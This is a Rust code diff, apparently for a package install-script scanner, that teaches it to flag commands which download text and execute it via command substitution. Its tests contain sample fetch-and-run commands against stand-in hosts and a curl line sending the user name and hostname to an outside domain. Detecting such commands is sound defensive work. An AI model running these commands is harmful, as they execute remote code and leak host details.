@@ -460,6 +460,20 @@ fn classify_command(command: &str, package: &PackageFacts<'_>, depth: usize, out
             }
             continue;
         }
+        // `sh -c "$(curl -fsSL …)"`, `node -e "$(wget -qO- …)"`, `eval `curl …``: the
+        // downloaded text is the program.
+        let executes_anything = PIPE_EXECUTORS.contains(&name.as_str())
+            || JS_RUNTIMES.contains(&name.as_str())
+            || SCRIPT_RUNTIMES.contains(&name.as_str())
+            || name == "eval";
+        if executes_anything && substitutes_download(&segment.text) {
+            out.push(Action::Download {
+                command: segment.text.clone(),
+                executes: true,
+                sends_host_data: interpolates_host_data(&segment.text),
+            });
+            continue;
+        }
         if DOWNLOADERS.contains(&name.as_str()) {
             if name == "certutil" && !contains_any(&segment.text, &["urlcache", "-split"]) {
                 continue;
@@ -606,6 +620,19 @@ fn classify_command(command: &str, package: &PackageFacts<'_>, depth: usize, out
         position += 1;
         keep
     });
+}
+
+/// Whether a command substitution (`$(…)` or backticks) starts with a downloader.
+fn substitutes_download(text: &str) -> bool {
+    let lower = text.to_ascii_lowercase();
+    ["$(", "`"].iter().any(|open| {
+        lower.match_indices(open).any(|(at, _)| {
+            let inner = lower[at + open.len()..].trim_start();
+            DOWNLOADERS
+                .iter()
+                .any(|d| inner.starts_with(d) && inner[d.len()..].starts_with([' ', '\t']))
+        })
+    })
 }
 
 /// Leading `VAR=value`, `cross-env`, `env`, `sudo`, `nohup`, `exec`, `time` are not the command.
@@ -1012,6 +1039,17 @@ mod tests {
             matches!(&found[..], [Action::Download { executes: true, .. }]),
             "{found:?}"
         );
+        for command in [
+            "sh -c \"$(curl -fsSL https://e.example/i.sh)\"",
+            "node -e \"$(wget -qO- http://e/p.js)\"",
+            "eval `curl -s http://e/x`",
+        ] {
+            let found = actions(command, &[]);
+            assert!(
+                matches!(&found[..], [Action::Download { executes: true, .. }]),
+                "{command}: {found:?}"
+            );
+        }
         let found = actions("curl https://x.oast.fun/$(whoami)/$(hostname)", &[]);
         assert!(
             matches!(
